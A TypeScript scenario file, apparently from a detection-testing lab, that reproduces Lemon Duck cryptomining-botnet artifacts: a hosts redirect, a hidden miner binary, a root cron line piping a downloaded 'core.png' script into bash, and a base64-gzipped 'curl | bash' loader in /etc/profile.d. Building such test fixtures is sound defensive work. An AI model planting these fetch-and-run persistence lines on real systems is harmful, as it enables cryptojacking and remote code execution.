import { gzipSync } from 'node:zlib';
import type { Scenario } from '../types.js';
import { appendLine, cronLine, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, writeFile } from '../kit.js';

// Modelled on: Darktrace, "Detecting Lateral Movement in Crypto-Botnets" (2021),
// https://darktrace.com/blog/crypto-botnets-moving-laterally (Lemon Duck's t.amynx.com download
// host), and "Alarming growth of difficult-to-detect 'Lemon Duck' crypto mining botnet",
// https://upnewsinfo.com/2020/10/15/alarming-growth-of-difficult-to-detect-lemon-duck-crypto-mining-botnet-by-cointelegraph/
// (Linux branch: cron lines that fetch core.png-named scripts into bash, payloads packed and
// base64-encoded, a miner in a hidden temp directory). t.amynx.com resolves to the lab pool
// through the host's /etc/hosts only.
const DOMAIN = 't.amynx.com';
const MINER = '/var/tmp/.lmd/kworkerds';
const PROFILE = '/etc/profile.d/locale-fix.sh';

export const lemonduck: Scenario = {
  name: 'lemonduck',
  plan: (ctx) => {
    const base = `http://${DOMAIN}:8080`;
    const argv = [MINER, '-o', stratum(ctx.pool, 45700)];
    const cron = `*/30 * * * * (curl -fsSL ${base}/ln/core.png?rds||wget -q -O- ${base}/ln/core.png?rds)|bash`;
    const packed = gzipSync(Buffer.from(`curl -fsSL ${base}/ln/a.sh?p=prof | bash >/dev/null 2>&1 &\n`)).toString('base64');
    const profile = `echo ${packed} | base64 -d | gunzip | sh`;
    return {
      family: 'lemonduck',
      plant: [
        appendLine('/etc/hosts', `${ctx.pool} ${DOMAIN}`),
        installBinary('lemonduck', MINER),
        cronLine(cron),
        writeFile(PROFILE, `${profile}\n`),
      ],
      start: [startProcess(argv)],
      artifacts: [
        processArtifact(argv, 'lemonduck', ctx.sha256('lemonduck'), 'miner', `${ctx.pool}:45700`),
        { kind: 'cron-line', path: ROOT_CRONTAB, line: cron },
        { kind: 'profile-line', path: PROFILE, line: profile },
        { kind: 'hosts-entry', path: '/etc/hosts', line: `${ctx.pool} ${DOMAIN}` },
      ],
      expectFindings: true,
      respawnSeconds: null,
      binaries: ['lemonduck'],
      sources: [
        { url: 'https://darktrace.com/blog/crypto-botnets-moving-laterally', title: 'Detecting Lateral Movement in Crypto-Botnets (Darktrace)' },
        { url: 'https://upnewsinfo.com/2020/10/15/alarming-growth-of-difficult-to-detect-lemon-duck-crypto-mining-botnet-by-cointelegraph/', title: "Alarming growth of difficult-to-detect 'Lemon Duck' crypto mining botnet" },
      ],
    };
  },
};
